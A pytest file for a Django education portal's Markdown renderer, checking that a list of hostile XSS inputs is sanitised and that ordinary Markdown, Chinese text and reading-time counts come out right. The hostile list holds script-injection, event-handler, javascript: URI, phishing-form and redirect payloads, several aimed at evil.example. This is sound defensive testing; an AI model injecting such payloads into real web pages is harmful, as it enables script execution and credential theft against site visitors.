"""Article text is Markdown made into HTML that is safe to show: nothing hostile survives."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from education.rendering import reading_minutes, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
    "<body onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#09;script:alert(1))",
    '[click](javascript&colon;alert(1) "title")',
    '<a href="javascript:alert(1)">raw link</a>',
    '<a href=" &#106;avascript:alert(1)">entity link</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '<a href="https://example.com" target="_blank" onfocus="alert(1)" autofocus>ok</a>',
]

FORBIDDEN = [
    re.compile(r"<\s*script", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"javascript:", re.I),
    re.compile(r"vbscript:", re.I),
    re.compile(r"data:", re.I),
    re.compile(r"<\s*(svg|iframe|style|object|embed|form|input|math|meta|base|img|body)\b", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\ssrcdoc\s*=", re.I),
    re.compile(r"\starget\s*=", re.I),
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_the_rendering(text):
    html = str(render_markdown(f"Before\n\n{text}\n\nAfter"))
    for pattern in FORBIDDEN:
        assert not pattern.search(html), (pattern.pattern, html)
    assert "Before" in html  # text after an unclosed <style> or <math> may be dropped with it


def test_script_and_style_contents_are_dropped_not_shown_as_text():
    html = str(render_markdown("<script>alert('x')</script><style>p{}</style>text"))
    assert "alert" not in html and "p{}" not in html and "text" in html


def test_ordinary_markdown_keeps_its_shape():
    html = str(render_markdown(
        "# Title\n\n## Section\n\nSome **bold** and *italic* text.\n\n- one\n- two\n\n"
        "1. first\n2. second\n\n> a quote\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n"
        "[hardship help](/my/hardship/) · [site](https://example.com/x \"X\") · "
        "[call](tel:4008008888) · [mail](mailto:help@example.com)"
    ))
    assert "<h2>Title</h2>" in html  # the page's title is the only <h1>
    assert "<h2>Section</h2>" in html and "<strong>bold</strong>" in html and "<em>italic</em>" in html
    assert "<ul>" in html and "<ol>" in html and "<blockquote>" in html and "<table>" in html
    assert 'href="/my/hardship/"' in html and 'href="https://example.com/x"' in html
    assert 'href="tel:4008008888"' in html and 'href="mailto:help@example.com"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_chinese_text_renders_as_it_was_written():
    html = str(render_markdown("逾期是指在**还款日**没有全额还款。"))
    assert html == "<p>逾期是指在<strong>还款日</strong>没有全额还款。</p>"


def test_a_hostile_article_is_shown_sanitised_on_its_page(client, make_article):
    article = make_article(
        body="正文\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[点我](javascript:alert(1))"
    )
    page = client.get(article.get_absolute_url()).text
    assert "正文" in page
    body = page[page.index('<div class="article-body">'):]
    assert "<script" not in body.split("</article>")[0]
    assert "onerror" not in page and "javascript:alert" not in page


def test_markup_in_a_title_or_summary_is_refused(make_article):
    from portal.errors import DomainError

    with pytest.raises(DomainError):
        make_article(title="<b>标题</b>")
    with pytest.raises(DomainError):
        make_article(slug="other", summary="摘要<script>alert(1)</script>")


def test_the_title_is_escaped_where_it_is_shown(client, make_article):
    article = make_article(title="收入 < 3000 时怎么办")
    page = client.get(reverse("education:articles")).text
    assert "收入 &lt; 3000 时怎么办" in page
    assert article.title in client.get(article.get_absolute_url()).content.decode().replace("&lt;", "<")


@pytest.mark.parametrize(("text", "minutes"), [
    ("", 1),
    ("字" * 400, 1),
    ("字" * 401, 2),
    ("word " * 200, 1),
    ("word " * 201, 2),
    ("字" * 800 + " word" * 200, 3),
])
def test_reading_time_counts_chinese_characters_and_english_words(text, minutes):
    assert reading_minutes(text) == minutes
